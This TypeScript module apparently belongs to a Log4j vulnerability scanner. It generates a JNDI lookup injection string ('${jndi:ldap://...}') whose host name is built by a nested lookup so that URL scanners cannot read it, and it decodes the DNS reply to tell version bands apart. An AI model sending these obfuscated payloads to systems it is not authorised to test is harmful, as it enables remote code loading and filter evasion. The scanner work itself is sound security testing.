import type { Band } from '../../core/index.ts'
import { type LookupForm, urlOf } from '../form.ts'

/**
 * Puts a lookup into the host name: what a resolver then asks for is in no text that a URL scanner could read.
 * It fires from 2.8 on, where names are evaluated.
 */
export const evaluatedName: LookupForm = {
  id: 'evaluated-name',
  summary: 'a host name that only evaluation can produce',
  schemes: ['ldap', 'ldaps', 'rmi'],
  firesOn: ['B', 'C'],
  seenIn: ['nuclei templates, in another spelling'],
  profile: null,
  needsZone: true,
  write: (target) => `\${jndi:${urlOf({ ...target, host: `e\${lower:Y:-n}.${target.host}` })}}`,
  meaning: (target, band) => urlOf({ ...target, host: `${band === 'C' ? 'ey' : 'en'}.${target.host}` }),
}

/** The band that a DNS name shows, if it was made by {@link evaluatedName}; `null` for any other name. */
export function bandOfEvaluatedName(asked: string): Band | null {
  const label = asked.slice(0, asked.indexOf('.')).toLowerCase()
  return label === 'ey' ? 'C' : label === 'en' ? 'B' : null
}
